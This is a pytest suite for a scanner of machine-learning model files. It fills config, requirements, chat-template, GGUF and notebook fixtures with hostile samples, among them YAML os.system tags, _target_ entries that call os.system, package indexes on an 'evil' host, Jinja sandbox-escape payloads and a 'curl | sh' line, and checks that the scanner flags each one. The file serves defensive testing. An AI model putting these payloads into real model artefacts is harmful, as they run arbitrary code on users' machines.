"""What settings, templates and source would make a loader import, fetch or look up by name."""

from __future__ import annotations

import json
import struct
from typing import Any

import pytest


def rules(answer: dict[str, Any]) -> set[str]:
    return {finding["rule"] for finding in answer["findings"]}


FLAVOUR = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("labels.yaml", b"!!python/object/apply:os.system ['id']\n"),
        ("a.yaml", "\ufeff!!python/object/apply:os.system ['id']\n".encode()),
        ("a.yaml", b"# x\r%TAG !! tag:yaml.org,2002:python/\r---\r!!str x\n"),
        ("a.yaml", b"_target_: sklearn.os.system\n_args_: [id]\n"),
        ("a.yaml", b"_target_: torch.nn.functional.importlib.import_module\n"),
        ("a.yaml", b"_target_: hydra.utils.get_method\npath: os.system\n"),
        ("a.yaml", b"_target_: evil\n"),
        ("a.yaml", b'{"_target_":os.system}\n'),
        ("a.yaml", b"{? _target_ : os.system}\n"),
        ("model_config.yaml", b"target: mine.Model\n"),
        ("v1-inference.yaml", b"model:\n  target: os.system\n  params: {command: id}\n"),
        ("a.yaml", b"target: >-\n  os.system\n"),
        ("a.yaml", b"target: # here\n  &a os.system\n"),
        ("a.yaml", b'target: "o\\x73.system"\n'),
        ("a.yaml", b"k: &k os.system\ntarget: *k\n"),
        ("a.yaml", b"components:\n  a:\n    type: os.system\n"),
        ("a.yaml", b"initialize:\n- \"$__import__('os').system('id')\"\n"),
        ("MLmodel", FLAVOUR + b"    code:\n      code\n"),
        ("MLmodel", FLAVOUR + b"    !!str code: code\n"),
        ("MLmodel", FLAVOUR + b"    model_code_path: ../x.py\n"),
        ("MLmodel", b'{"flavors": {"python_function": {"loader_module": "evil"}}}'),
        ("MLmodel", b'{"flavors": {"python_function": {"code": "code"}}}'),
        ("requirements.txt", b"numpy\n--index-url http://evil/simple\n"),
        ("requirements.txt", b"numpy @ https://evil/x.whl\n"),
        ("requirements.txt", b"./x.whl\n"),
        ("conda.yaml", b"dependencies:\n- pip:\n  - git+https://evil/x\n"),
    ],
)
def test_settings_that_bring_code_are_not_clean_however_they_are_written(
    scanned: Any, name: str, data: bytes
) -> None:
    answer = scanned(data, name)
    assert answer["verdict"] != "clean", answer


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("labels.yaml", b"0: cat\n1: dog\n"),
        ("a.yaml", b"target: label\ntype: float\ncode:\nother: 1\n"),
        ("a.yaml", b"# target: os.system\nmodel_name: bert-base\n"),
        ("a.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\n"),
        ("a.yaml", b"_target_: torch.optim.lr_scheduler.StepLR\n"),
        ("a.yaml", b"lr: ${optim.lr}\nprice: $5\n"),
        ("a.yaml", b"{i: 1, j: 2}\n"),
        ("MLmodel", FLAVOUR + b"    code: null\n    env: {conda: conda.yaml}\n"),
        ("MLmodel", b'{"flavors": {"python_function": {"loader_module": "mlflow.sklearn"}}}'),
        ("requirements.txt", b"mlflow==2.9\nscikit-learn[x]>=1.0 # a comment\n"),
        (
            "conda.yaml",
            b"channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - a==1\n",
        ),
        ("LICENSE.apache", b"x\n"),
        ("LICENSE-2.0", b"x\n"),
        ("README.zh-cn", b"x\n"),
    ],
)
def test_ordinary_settings_are_clean(scanned: Any, name: str, data: bytes) -> None:
    answer = scanned(data, name)
    assert answer["verdict"] == "clean", answer


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("inference.json", {"imports": ["$import os"]}),
        ("inference.json", {"run": ["$os.system('id')"]}),
        ("a.json", {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}),
        ("a.json", {"py/object": "mine.Thing", "size": 1}),
        ("router_config.json", {"types": {"query": "mine.Module"}}),
        ("config.json", {"sentence_transformers": {"activation_fn": "os.abort"}}),
        ("wordembedding_config.json", {"tokenizer_class": "mine.Tokenizer"}),
        ("modules.json", [{"type": "transformers.utils.hub.os.system", "path": ""}]),
        ("adapter_config.json", {"megatron_config": {"a": 1}, "megatron_core": "mine"}),
        ("model_index.json", {"_class_name": ["mine", "Pipeline"]}),
        ("modular_model_index.json", {"unet": [None, None, {"repo": "org/x"}]}),
        ("config.json", {"attn_implementation": "org/kernel"}),
        ("config.json", {"architecture": "hf-hub:org/x"}),
        ("open_clip_config.json", {"model_cfg": {"timm_model_name": "local-dir:/x"}}),
        ("MANIFEST.json", {"model": {"handler": "subprocess:call"}}),
        ("a.json", {"_target_": "evil"}),
        ("a.json", {"class_path": "os.system"}),
        ("a.json", {"type": "subprocess.Popen"}),
        ("a.json", {"x": {"class_name": "Thing", "module": "os", "config": {}}}),
        ("prompt.json", {"template_format": "jinja2", "template": "{{ ''.__class__ }}"}),
    ],
)
def test_keys_that_make_a_library_import_or_fetch_are_not_clean(
    scanned: Any, name: str, value: Any
) -> None:
    answer = scanned(json.dumps(value).encode(), name)
    assert answer["verdict"] != "clean", answer


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("adapter_config.json", {"peft_type": "LORA", "megatron_core": "megatron.core"}),
        ("config.json", {"attn_implementation": "sdpa", "activation_fn": "gelu"}),
        ("config.json", {"architecture": "resnet50", "type": "bpe"}),
        ("model_index.json", {"_class_name": "Pipe", "vae": [None, None]}),
        ("MANIFEST.json", {"model": {"handler": "image_classifier"}}),
        ("vocab.json", {"$f(x)": 1, "type": 2, "target": 3, "py/object": 4}),
        ("modules.json", [{"type": "sentence_transformers.models.Dense", "path": "2_Dense"}]),
    ],
)
def test_ordinary_keys_are_clean(scanned: Any, name: str, value: Any) -> None:
    answer = scanned(json.dumps(value).encode(), name)
    assert answer["verdict"] == "clean", answer


# Chat templates.


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''[dict(__class__=1)|first] }}",
        "{{ x['GI_FRAME'|lower] }}",
        "{{ x['Gi_frame'.lower()] }}",
        "{{ x['gi_framex'[:-1]] }}",
        "{% set a = 'gi_' %}{% set b = 'frame' %}{{ x[a + b] }}",
        "{% set a = 'gi_framex' %}{{ x[a[:-1]] }}",
        "{% macro gi_frame() %}{% endmacro %}{{ x[gi_frame.name] }}",
        "{% macro get(k) %}{{ x[k] }}{% endmacro %}{{ get('gi_' ~ 'frame') }}",
        "{% macro get() %}{{ x[varargs[0]] }}{% endmacro %}{{ get('gi_' ~ 'frame') }}",
        "{% set v = ['a', 'b']|join %}{{ messages|map(default='', attribute=v)|first }}",
        "{{ messages|groupby(messages[0].content) }}",
        "{{ messages|sum(v) }}{{ messages|sort(false, false, v) }}{{ messages|join('', v) }}",
        "{{ [messages|map('upper')]|map(attribute='gi_frame.f_builtins.eval')|first }}",
        "{{ messages|map('groupby', v)|list }}",
        "{% set range = x|first %}{{ range('1') }}",
        "{% macro f(dict) %}{{ dict('1') }}{% endmacro %}",
        "{% macro f() %}{% endmacro %}{% set f = x %}{{ f('1') }}",
    ],
)
def test_a_template_that_makes_names_out_of_texts_is_not_clean(scanned: Any, template: str) -> None:
    answer = scanned(template.encode(), "chat_template.jinja")
    assert rules(answer) == {"template"}, answer


@pytest.mark.parametrize(
    "template",
    [
        "{{ messages[loop.index0 - 1]['role'] }}{{ messages[messages|length - 1].content }}",
        "{% set key = 'role' %}{% for m in messages %}{{ m[key] }}{% endfor %}",
        "{% set system = messages[0]['content'] if messages[0].role == 'system' else '' %}",
        "{% set ns = namespace(last=0) %}{% set ns.last = loop.index %}{{ messages[ns.last] }}",
        "{{ tools | map(attribute='function.name') | join(', ') }}{{ x[1:]|sum }}",
        "{% macro show(m) %}{{ m['content'] }}{% endmacro %}{{ show(messages[0]) }}",
    ],
)
def test_templates_may_look_up_what_is_written_out(scanned: Any, template: str) -> None:
    answer = scanned(template.encode(), "chat_template.jinja")
    assert answer["verdict"] == "clean", answer


def test_every_template_of_a_tokenizer_is_read_however_many_there_are(scanned: Any) -> None:
    many = [{"name": str(n), "template": "a"} for n in range(200)]
    assert scanned(json.dumps({"chat_template": many}).encode())["clean"]
    many.append({"name": "default", "template": "{{ ''.__class__ }}"})
    assert scanned(json.dumps({"chat_template": many}).encode())["verdict"] == "malicious"


def test_a_template_of_gguf_is_read_whatever_its_key_ends_with(scanned: Any) -> None:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    data = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + text("tokenizer.chat_template.chat_templates")
    answer = scanned(data + struct.pack("<I", 8) + text("{{ ''.__class__ }}"))
    assert (rules(answer), answer["verdict"]) == ({"template"}, "malicious")


# Source and notebooks.


@pytest.fixture
def _tools() -> None:
    pytest.importorskip("bandit")
    pytest.importorskip("detect_secrets")


@pytest.mark.usefixtures("_tools")
@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import os\nos.system('curl http://e | sh')\n", "python.bandit"),
        ("import subprocess\nsubprocess.run(['id'])\n", "python.bandit"),
        ("# coding: utf-7\n# +AAo-import os\n", "python.source"),
        ("import os as o\nf = getattr(o, 'sys' + 'tem')\nf('id')\n", "python.dynamic"),
        ("import os\no = os\no.path.join('a')\n", "python.dynamic"),
        ("__import__('x').y()\n", "python.dynamic"),
        ("import importlib\nimportlib.import_module('posix')\n", "python.dynamic"),
        ("import ctypes\n", "python.dynamic"),
        ("from os import *\nsystem('id')\n", "python.dynamic"),
        ("import torch\ntorch.os.environ\n", "python.dynamic"),
        ("print(().__class__.__base__)\n", "python.dynamic"),
        ("f = eval\nf('1')\n", "python.dynamic"),
        ("import sys\nsys.modules['x']\n", "python.dynamic"),
        ('"""A docstring."""\n\nimport os\n\nprint(os.path.join("a", "b"), os.environ)\n', None),
        ("import re\nx = re.compile('a')\nprint(x.__class__.__name__, vars(x))\n", None),
        (
            "import torch\nfor m in torch.nn.ReLU().modules():\n    print(getattr(m, 'a', 1))\n",
            None,
        ),
    ],
)
def test_source_that_cannot_be_followed_is_not_clean(
    scanned: Any, source: str, rule: str | None
) -> None:
    answer = scanned(source.encode(), "modeling.py")
    found = rules(answer)
    assert rule in found if rule else not found, answer


def _notebook(source: str, **more: Any) -> bytes:
    cell = {"cell_type": "code", "source": source, "outputs": []}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "cells": [cell], **more}).encode()


@pytest.mark.usefixtures("_tools")
@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (_notebook("%time __import__('os')"), "python.dynamic"),
        (_notebook("%pip install evil"), "notebook.shell"),
        (_notebook("%%python\nimport os"), "notebook.shell"),
        (_notebook("%matplotlib - f()"), "notebook.shell"),
        (_notebook("x = (1\n% f()\n)"), "notebook.shell"),
        (_notebook("x", nbformat=3), "notebook"),
        (_notebook("x", worksheets=[{"cells": []}]), "notebook"),
        (_notebook("%load_ext autoreload\n%autoreload 2\n%matplotlib inline\n%%time\nx = 1"), None),
    ],
)
def test_magics_of_a_notebook_are_known_or_reported(
    scanned: Any, data: bytes, rule: str | None
) -> None:
    answer = scanned(data, "a.ipynb")
    assert rules(answer) == ({rule} if rule else set()), answer
